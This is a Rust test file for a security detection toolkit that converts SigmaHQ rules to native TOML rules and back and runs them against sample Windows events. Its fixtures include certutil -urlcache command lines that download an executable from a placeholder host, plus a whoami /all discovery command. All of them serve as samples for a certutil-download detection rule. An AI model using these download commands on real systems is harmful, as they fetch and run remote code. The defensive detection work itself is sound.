//! Sigma to native and back: SigmaHQ's rules converted to native TOML load and compile, and the
//! converted rules pass SigmaHQ's regression samples; the bundled pack exported to Sigma and run as a
//! native `language = "sigma"` rule passes the original rules' own test cases; native Sigma-language
//! rules run their inline cases, and broken ones fail naming the key.

#![allow(clippy::unwrap_used, clippy::panic)] // test helpers outside #[test] functions

use std::path::{Path, PathBuf};

use secops_detect::sigma::{self, Mapping};
use secops_detect::CompiledRule;
use secops_event::Timestamp;
use secops_lab::convert::{self, Fixture};
use secops_lab::export;
use secops_lab::testing::{run_tests, TestResult};
use secops_rules::load::{files_with, load_text};
use secops_rules::sigma::yaml::{parse_documents, Yaml};
use secops_rules::sigma::{parse_file, Placeholders, SigmaDocument};
use secops_rules::{Language, LogSource, RuleFile};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn sigma_corpus() -> Option<PathBuf> {
    secops_testkit::shared("corpus/sigma")
}

fn now() -> Timestamp {
    Timestamp::parse_rfc3339("2026-11-22T00:00:00Z").unwrap()
}

const OPTIONS: convert::Options<'static> = convert::Options {
    attack: None,
    fresh_id: "00000000-0000-4000-8000-000000000000",
    today: "2026-12-01",
    original_path: "test.yml",
    original_sha256: "0",
};

/// Converts every rule document of a Sigma file that runs here; `None` for files that do not.
fn convert_file(file: &Path, with_sample: bool) -> Option<Vec<(convert::Converted, String)>> {
    let text = std::fs::read_to_string(file).unwrap();
    let documents = parse_file(file, &text, &Placeholders::new()).ok()?;
    if !sigma::compile(&documents, Mapping::shared_bundled())
        .rejected
        .is_empty()
    {
        return None;
    }
    let raw = parse_documents(&text).unwrap();
    let mut out = Vec::new();
    for (document, parsed) in raw.iter().zip(&documents) {
        let SigmaDocument::Rule(rule) = parsed else {
            continue;
        };
        let fixture = with_sample
            .then(|| convert::regression_sample(file, document))
            .flatten()
            .map(|(json, min_alerts)| Fixture {
                events_file: json.canonicalize().unwrap().display().to_string(),
                min_alerts,
            });
        let converted = convert::to_native(document, &rule.meta, fixture.as_ref(), &OPTIONS)
            .unwrap_or_else(|e| panic!("{}: {e}", file.display()));
        out.push((converted, rule.meta.title.clone()));
    }
    Some(out)
}

#[test]
fn every_runnable_sigmahq_rule_converts_to_a_native_rule_that_loads_and_compiles() {
    let Some(corpus) = sigma_corpus() else {
        return;
    };
    let mut converted = 0;
    for folder in [
        "rules",
        "rules-emerging-threats",
        "rules-threat-hunting",
        "rules-compliance",
    ] {
        let mut errors = Vec::new();
        for file in files_with(&corpus.join(folder), &["yml"], &mut errors) {
            let Some(rules) = convert_file(&file, false) else {
                continue;
            };
            for (rule, title) in rules {
                let path = PathBuf::from(&rule.folder).join(&rule.file_name);
                let checked = load_text(&path, &rule.text)
                    .unwrap_or_else(|e| panic!("{title}: {e}\n{}", rule.text));
                assert_eq!(checked.file.rule.language, Some(Language::Sigma));
                assert_eq!(checked.file.metadata.source.as_ref().unwrap().kind, "sigma");
                CompiledRule::compile(&checked, now())
                    .unwrap_or_else(|e| panic!("{title}: {e}\n{}", rule.text));
                converted += 1;
            }
        }
        assert!(errors.is_empty(), "{errors:?}");
    }
    eprintln!("converted {converted} SigmaHQ rules");
    assert!(converted > 3_000, "only {converted} converted");
}

#[test]
fn converted_sigmahq_rules_match_their_regression_samples() {
    let Some(corpus) = sigma_corpus() else {
        return;
    };
    let mut errors = Vec::new();
    let (mut passed, mut failed) = (0, Vec::new());
    for folder in ["rules", "rules-emerging-threats", "rules-threat-hunting"] {
        for file in files_with(&corpus.join(folder), &["yml"], &mut errors) {
            let text = std::fs::read_to_string(&file).unwrap();
            if !text.contains("regression_tests_path") {
                continue;
            }
            let Some(rules) = convert_file(&file, true) else {
                continue;
            };
            for (rule, title) in rules {
                let checked = load_text(&file.with_extension("toml"), &rule.text).unwrap();
                // Some rules name their sample only in a comment, or one not in the corpus.
                if checked.file.tests.is_empty() {
                    continue;
                }
                for outcome in run_tests(&checked, &repo().join(".."), now()) {
                    match outcome.result {
                        TestResult::Passed => passed += 1,
                        other => failed.push(format!("{title}: {other:?}")),
                    }
                }
            }
        }
    }
    eprintln!("regression samples through converted rules: {passed} passed");
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    assert!(passed >= 165, "only {passed} regression cases ran");
}

/// A bundled rule with its condition replaced by the Sigma detection `yaml` exported from it.
fn as_sigma_language(path: &Path, text: &str, exported: &str) -> secops_rules::CheckedRule {
    let base = &parse_documents(exported).unwrap()[0];
    let detection: toml::Table = toml::Value::try_from(base.get("detection").unwrap())
        .unwrap()
        .try_into()
        .unwrap();
    let logsource = base.get("logsource").unwrap();
    let field = |k: &str| logsource.get(k).and_then(Yaml::scalar_text);
    let mut file = RuleFile::parse(path, text).unwrap();
    file.rule.language = Some(Language::Sigma);
    file.rule.query = None;
    file.rule.detection = Some(detection);
    // The export carries the exceptions in the detection.
    file.rule.exceptions.clear();
    file.rule.log_source = LogSource {
        product: field("product"),
        category: field("category"),
        service: field("service"),
        definition: field("definition"),
    };
    file.check(path, text)
        .unwrap_or_else(|e| panic!("{}: {e}\n{exported}", path.display()))
}

#[test]
fn bundled_rules_exported_to_sigma_pass_their_own_test_cases() {
    let mut errors = Vec::new();
    let files = files_with(&repo().join("rules"), &["toml"], &mut errors);
    let (mut exported, mut refused, mut failed) = (0, 0, Vec::new());
    for path in files {
        let text = std::fs::read_to_string(&path).unwrap();
        let rule = load_text(&path, &text).unwrap();
        let yaml = match export::to_sigma(&rule) {
            Ok(e) => e.text,
            Err(reason) => {
                eprintln!("not exported: {}: {reason}", path.display());
                refused += 1;
                continue;
            }
        };
        // The YAML loads and runs as Sigma.
        let documents = parse_file(&path, &yaml, &Placeholders::new())
            .unwrap_or_else(|e| panic!("{e}\n{yaml}"));
        let compiled = sigma::compile(&documents, Mapping::shared_bundled());
        assert!(
            compiled.rejected.is_empty(),
            "{:?}\n{yaml}",
            compiled.rejected
        );
        // The same detection, in the original rule with its cases, gives the same results.
        let checked = as_sigma_language(&path, &text, &yaml);
        for outcome in run_tests(&checked, &repo().join(".."), now()) {
            if let TestResult::Failed(why) = outcome.result {
                failed.push(format!(
                    "{} / {}: {}\n{yaml}",
                    path.display(),
                    outcome.test,
                    why.join("; ")
                ));
            }
        }
        exported += 1;
    }
    eprintln!("exported {exported}, refused {refused}");
    assert!(failed.is_empty(), "{}", failed.join("\n"));
    assert!(exported >= 30, "only {exported} exported");
}

const NATIVE_SIGMA: &str = r##"
[metadata]
creation_date = "2026-12-01"
updated_date = "2026-12-01"
maturity = "experimental"

[rule]
id = "0d5c1f6e-54b8-4f55-8a43-3a2f0ad1c1a7"
name = "Certutil Downloads a File"
description = "certutil.exe with -urlcache fetches files from the internet."
author = ["secops"]
license = "Apache-2.0"
type = "query"
language = "sigma"
severity = "high"
risk_score = 73

[rule.log_source]
product = "windows"
category = "process_creation"

[rule.detection]
condition = "selection and not filter"

[rule.detection.selection]
"Image|endswith" = '\certutil.exe'
"CommandLine|contains|all" = ["-urlcache", "http"]

[[rule.detection.filter]]
"ParentImage|endswith" = '\ccmexec.exe'

[[rule.detection.filter]]
CommandLine = { null = true }

[[test]]
name = "a download by a user alerts"
expect = "alert"
[[test.events]]
"Event.EventData.Image" = 'C:\Windows\System32\certutil.exe'
"Event.EventData.CommandLine" = "certutil -urlcache -f http://203.0.113.7/a.exe a.exe"
"Event.EventData.User" = 'CORP\jdoe'

[[test]]
name = "started by the SCCM agent it does not"
expect = "no_alert"
[[test.events]]
"Event.EventData.Image" = 'C:\Windows\System32\certutil.exe'
"Event.EventData.CommandLine" = "certutil -urlcache -f http://203.0.113.7/a.exe a.exe"
"Event.EventData.ParentImage" = 'C:\Windows\CCM\ccmexec.exe'

[[test]]
name = "Sysmon process creation from the JSON reader alerts"
expect = "alert"
parser = "json"
raw = ['{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "TimeCreated": {"#attributes": {"SystemTime": "2026-05-14T08:03:40.1Z"}}, "EventRecordID": 77, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS042"}, "EventData": {"Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -urlcache -split -f https://203.0.113.7/p.txt", "User": "CORP\\jdoe"}}}']

[[test]]
name = "a Security 4688 event reads the renamed field"
expect = "alert"
parser = "json"
raw = ['{"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}}, "EventID": 4688, "TimeCreated": {"#attributes": {"SystemTime": "2026-05-14T08:03:40.1Z"}}, "EventRecordID": 78, "Channel": "Security", "Computer": "WS042"}, "EventData": {"NewProcessName": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil.exe -urlcache -f http://203.0.113.7/p.txt", "SubjectUserName": "jdoe"}}}']
"##;

#[test]
fn native_sigma_language_rules_run_their_cases() {
    let rule = load_text(Path::new("certutil.toml"), NATIVE_SIGMA).unwrap();
    assert!(rule.sigma.is_some());
    let outcomes = run_tests(&rule, &repo().join(".."), now());
    assert_eq!(outcomes.len(), 4);
    for outcome in outcomes {
        assert_eq!(outcome.result, TestResult::Passed, "{}", outcome.test);
    }
}

#[test]
fn broken_native_sigma_rules_fail_naming_the_key() {
    let path = Path::new("broken.toml");
    let error = |text: &str| load_text(path, text).unwrap_err();
    let no_condition = NATIVE_SIGMA.replace("condition = \"selection and not filter\"\n", "");
    let e = error(&no_condition);
    assert_eq!(e.key.as_deref(), Some("rule.detection.condition"), "{e}");
    assert!(e.message.contains("missing"), "{e}");
    let bad_modifier =
        NATIVE_SIGMA.replacen("\"Image|endswith\"", "\"Image|endswith|sideways\"", 1);
    let e = error(&bad_modifier);
    assert_eq!(
        e.key.as_deref(),
        Some("rule.detection.selection.Image|endswith|sideways"),
        "{e}"
    );
    assert!(e.message.contains("sideways"), "{e}");
    assert!(e.line.is_some(), "{e}");
    let unknown_identifier = NATIVE_SIGMA.replace("not filter", "not filtre");
    assert!(error(&unknown_identifier).message.contains("filtre"));
    let without_language = NATIVE_SIGMA.replace("language = \"sigma\"\n", "");
    let e = error(&without_language);
    assert!(
        e.to_string()
            .contains("[rule.detection] needs language = \"sigma\""),
        "{e}"
    );
    let with_query = NATIVE_SIGMA.replace(
        "language = \"sigma\"\n",
        "language = \"sigma\"\nquery = \"a:b\"\n",
    );
    assert_eq!(error(&with_query).key.as_deref(), Some("rule.query"));
}

#[test]
fn a_detection_for_an_unmapped_log_source_fails_to_compile_with_the_reason() {
    let text = NATIVE_SIGMA.replace("product = \"windows\"", "product = \"macos\"");
    let rule = load_text(Path::new("macos.toml"), &text).unwrap();
    let e = CompiledRule::compile(&rule, now()).unwrap_err();
    assert!(e.to_string().contains("macos"), "{e}");
}

#[test]
fn native_sigma_rules_run_in_the_engines_shared_sigma_set_with_their_exceptions() {
    use secops_detect::{Engine, IndicatorSet};
    let with_exception = NATIVE_SIGMA.replace(
        "[rule.log_source]",
        "[[rule.exceptions]]\ndescription = \"the patch server\"\n[[rule.exceptions.entries]]\nfield = \"Event.EventData.User\"\ntype = \"match\"\nvalue = 'CORP\\patch'\n\n[rule.log_source]",
    );
    let native = load_text(Path::new("certutil.toml"), &with_exception).unwrap();
    // With SigmaHQ's own rules beside it, so the set is shared.
    let text = "title: Whoami\nid: 8f0b3c6a-1c2d-4e5f-8a9b-0c1d2e3f4a5b\nlogsource:\n    category: process_creation\n    product: windows\ndetection:\n    selection:\n        Image|endswith: '\\whoami.exe'\n    condition: selection\nlevel: low\n";
    let documents = parse_file(Path::new("whoami.yml"), text, &Placeholders::new()).unwrap();
    let compiled = sigma::compile(&documents, Mapping::shared_bundled());
    let (mut engine, errors) =
        Engine::with_sigma(&[native], compiled, now(), &IndicatorSet::default());
    assert!(errors.is_empty(), "{errors:?}");
    let event = |image: &str, command: &str, user: &str| {
        let line = serde_json::json!({"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
            "EventID": 1, "TimeCreated": {"#attributes": {"SystemTime": "2026-05-14T08:03:40.1Z"}}, "EventRecordID": 1,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS1"},
            "EventData": {"Image": image, "CommandLine": command, "User": user}}});
        let mut events = Vec::new();
        secops_ingest::read_bytes(
            secops_ingest::Format::Json,
            "test",
            line.to_string().as_bytes(),
            &secops_ingest::Options::default(),
            &mut |r| events.extend(r.ok()),
        );
        events.remove(0)
    };
    let mut alerts = Vec::new();
    engine.process(
        &event(
            r"C:\Windows\System32\certutil.exe",
            "certutil -urlcache -f http://x.example/a",
            r"CORP\jdoe",
        ),
        &mut alerts,
    );
    engine.process(
        &event(
            r"C:\Windows\System32\certutil.exe",
            "certutil -urlcache -f http://x.example/a",
            r"CORP\patch",
        ),
        &mut alerts,
    );
    engine.process(
        &event(
            r"C:\Windows\System32\whoami.exe",
            "whoami /all",
            r"CORP\jdoe",
        ),
        &mut alerts,
    );
    let names: Vec<&str> = alerts.iter().map(|a| a.rule.name.as_str()).collect();
    assert_eq!(names, vec!["Certutil Downloads a File", "Whoami"]);
    let certutil = engine
        .rules()
        .iter()
        .find(|r| r.info.name == "Certutil Downloads a File")
        .unwrap();
    assert_eq!(
        (certutil.stats().matched, certutil.stats().excepted),
        (2, 1)
    );
}

/// An `informational` Sigma rule stays informational as a native rule (not a low-severity building
/// block), loads, and exports back as informational.
#[test]
fn an_informational_rule_converts_and_exports_as_informational() {
    let text = "title: Whoami Run\nid: 5f0c1a7e-2b4d-4e6f-8a9b-0c1d2e3f4a51\nstatus: test\n\
                description: whoami ran.\nauthor: secops tests\nlogsource:\n  product: windows\n  \
                category: process_creation\ndetection:\n  selection:\n    Image|endswith: '\\whoami.exe'\n  \
                condition: selection\nlevel: informational\ntags:\n  - attack.discovery\n  - attack.t1033\n";
    let documents = parse_file(Path::new("info.yml"), text, &Placeholders::new()).unwrap();
    let SigmaDocument::Rule(rule) = &documents[0] else {
        panic!("a rule")
    };
    let raw = parse_documents(text).unwrap();
    let converted = convert::to_native(&raw[0], &rule.meta, None, &OPTIONS).unwrap();
    assert!(
        converted.text.contains("severity = \"informational\""),
        "{}",
        converted.text
    );
    assert!(
        !converted.text.contains("building_block"),
        "{}",
        converted.text
    );
    assert_ne!(converted.folder, "rules_building_block");
    let native = load_text(Path::new("rules/discovery/x.toml"), &converted.text).unwrap();
    assert_eq!(
        native.file.rule.severity,
        secops_rules::Severity::Informational
    );
    let exported = export::to_sigma(&native).unwrap().text;
    assert!(exported.contains("level: informational"), "{exported}");
}
